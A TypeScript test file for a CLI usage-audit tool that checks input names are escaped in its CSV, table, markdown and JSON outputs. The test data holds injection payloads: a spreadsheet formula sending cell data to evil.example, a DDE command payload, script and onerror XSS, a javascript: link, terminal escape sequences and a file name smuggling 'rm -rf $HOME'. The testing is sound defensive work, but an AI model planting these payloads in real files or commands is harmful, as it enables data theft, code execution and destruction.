// Issue 14 findings 7, 8, 9: names from input never act as formulas, terminal commands, HTML or links in an output.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { commandWord, csvText, markdownText, oneLine } from '../../src/report/escape.ts';
import { runCli } from '../helpers/cli.ts';

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\tTAB',
  'clear\x1b[2Jscreen',
  'retitle\x1b]0;pwned\x07',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  'rtl\u202Egnp.exe',
];
const rawControl = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/;
const formulaStart = /^[=+\-@\t\r]/;

function hostileExport(): { dir: string; file: string } {
  const dir = mkdtempSync(join(tmpdir(), 'batchable-hostile-'));
  const file = join(dir, 'usage.csv');
  const q = (v: string) => `"${v.replaceAll('"', '""')}"`;
  const rows = hostile.map((p, i) => `r${i},2026-10-05T09:${String(i).padStart(2, '0')}:00Z,gpt-5.4,1000,100,${q(p)},${q(p)}`);
  // One malformed row whose raw text holds an escape sequence: `rejects` quotes it.
  rows.push('bad,2026-10-05T10:00:00Z,gpt-5.4,lots\x1b[2J,1,x,x');
  writeFileSync(file, `call_id,ts,model,input_tokens,output_tokens,project,feature\n${rows.join('\n')}\n`);
  return { dir, file };
}

describe('escaping helpers', () => {
  it('neutralise formula starts for text and make controls visible', () => {
    expect(csvText('=1+1')).toBe("'=1+1");
    expect(csvText('\tx')).toBe("'\\tx");
    expect(csvText('plain-name')).toBe('plain-name');
    expect(oneLine('a\x1b[2Jb\nc')).toBe('a\\x1b[2Jb\\nc');
    expect(markdownText('<b>[x](javascript:y)|z')).toBe('&lt;b&gt;\\[x\\](javascript:y)\\|z');
  });
  it('a file name in a command to copy is one shell word: bare when plain, else quoted', () => {
    expect(commandWord('./exports/usage-2026-10.csv')).toBe('./exports/usage-2026-10.csv');
    expect(commandWord('my export.csv')).toBe("'my export.csv'");
    expect(commandWord("it's; rm -rf $HOME.csv")).toBe("'it'\\''s; rm -rf $HOME.csv'");
  });
});

describe('hostile names in every output', () => {
  it('--format csv and --export-calls csv: text cells never start a formula; numbers stay numbers', async () => {
    const { dir, file } = hostileExport();
    const exported = join(dir, 'calls.csv');
    const r = await runCli(['audit', file, '--db', ':memory:', '--by', 'project', '--format', 'csv', '--export-calls', exported]);
    expect(r.code).toBe(0);
    const [savings, ...rest] = r.stdout.split('\n\n');
    const report = parse(savings!, { columns: true }) as Record<string, string>[];
    // The notes quote names too (a workload held blocking by its name, one that cannot be batched): text cells.
    const notes = rest.find((t) => t.startsWith('note_kind,note\n'));
    for (const row of notes === undefined ? [] : (parse(notes, { columns: true }) as Record<string, string>[])) {
      expect(row.note).not.toMatch(rawControl);
      expect(row.note).not.toMatch(formulaStart);
    }
    const names = report.map((row) => row.name ?? '');
    for (const p of hostile.filter((h) => formulaStart.test(h))) expect(names).toContain(`'${oneLine(p)}`);
    for (const row of report) {
      for (const [column, value] of Object.entries(row)) {
        expect(value, column).not.toMatch(rawControl);
        if (formulaStart.test(value)) expect(column).not.toBe('name');
      }
      expect(row.requests).toMatch(/^\d+$/);
    }
    const calls = parse(readFileSync(exported, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(calls.length).toBe(hostile.length);
    for (const row of calls) {
      for (const [column, value] of Object.entries(row)) {
        expect(value, column).not.toMatch(rawControl);
        if (column !== 'cost_usd' && column !== 'confidence') expect(value, `${column}: ${value}`).not.toMatch(formulaStart);
      }
      expect(row.requests).toBe('1');
    }
  });

  it('table, stderr and rejects show control characters instead of sending them', async () => {
    const { dir, file } = hostileExport();
    const db = join(dir, 'w.duckdb');
    const table = await runCli(['audit', file, '--db', db, '--by', 'project']);
    expect(table.code).toBe(0);
    expect(table.stdout).not.toMatch(rawControl);
    expect(table.stderr).not.toMatch(rawControl);
    expect(table.stdout).toContain('\\x1b[2J');
    const rejects = await runCli(['rejects', '--db', db]);
    expect(rejects.stdout).toContain('lots\\x1b[2J');
    expect(rejects.stdout).not.toMatch(rawControl);

    // A file name with an escape sequence, in an error and in a warning.
    const evil = join(dir, 'evil\x1b]0;pwned\x07.csv');
    writeFileSync(evil, 'not,usage\n1,2\n');
    const named = await runCli(['ingest', evil, '--db', ':memory:']);
    expect(named.code).toBe(2);
    expect(named.stderr).not.toMatch(rawControl);
    expect(named.stderr).toContain('evil\\x1b]0;pwned\\x07.csv');
    const inDir = await runCli(['ingest', dir, '--db', ':memory:']);
    expect(inDir.stderr).toContain('warning: skipped');
    expect(inDir.stderr + inDir.stdout).not.toMatch(rawControl);

    // A newline in a file name starts no line of its own: in the summary (ingested, then already ingested), in a
    // reject, in an error and in a warning.
    const split = mkdtempSync(join(tmpdir(), 'batchable-newline-'));
    const usage = join(split, 'usage\nerror: fake.csv');
    writeFileSync(usage, 'call_id,ts,model,input_tokens,output_tokens\nc1,2026-10-01T00:00:00Z,gpt-5.4,100,10\nc2,bad,gpt-5.4,100,10\n');
    writeFileSync(join(split, 'notes\nerror: fake.csv'), 'not,usage\n1,2\n');
    const once = join(split, 'w.duckdb');
    for (const run of [await runCli(['ingest', split, '--db', once]), await runCli(['ingest', split, '--db', once])]) {
      expect(run.code).toBe(0);
      expect(`${run.stdout}${run.stderr}`.split('\n').filter((l) => l.startsWith('error: fake.csv'))).toEqual([]);
      expect(run.stdout).toContain('usage\\nerror: fake.csv');
      expect(run.stderr).toContain('warning: skipped');
    }
    const refused = await runCli(['ingest', join(split, 'notes\nerror: fake.csv'), '--db', ':memory:']);
    expect(refused.code).toBe(2);
    expect(refused.stderr.split('\n').filter((l) => l.startsWith('error: fake.csv'))).toEqual([]);
  });

  it('markdown escapes HTML, link syntax and pipes in cells', async () => {
    const { file } = hostileExport();
    const r = await runCli(['audit', file, '--db', ':memory:', '--by', 'project', '--format', 'markdown']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/<script|<img|(?<!\\)\]\(javascript/);
    expect(r.stdout).toContain('&lt;script&gt;');
    expect(r.stdout).not.toMatch(rawControl);
    // Each table line still has the header's number of cells: no pipe from input split a cell.
    const tableLines = r.stdout.split('\n').filter((l) => l.startsWith('|'));
    const cells = (l: string) => l.replace(/\\\|/g, '').split('|').length;
    for (const l of tableLines) expect(cells(l)).toBe(cells(tableLines[0]!));
  });

  it('JSON keeps the names exactly (JSON escapes them itself)', async () => {
    const { file } = hostileExport();
    const r = await runCli(['audit', file, '--db', ':memory:', '--by', 'project', '--format', 'json']);
    expect(r.code).toBe(0);
    const names = (JSON.parse(r.stdout) as { workloads: { name: string }[] }).workloads.map((row) => row.name);
    for (const p of hostile) expect(names).toContain(p);
  });
});
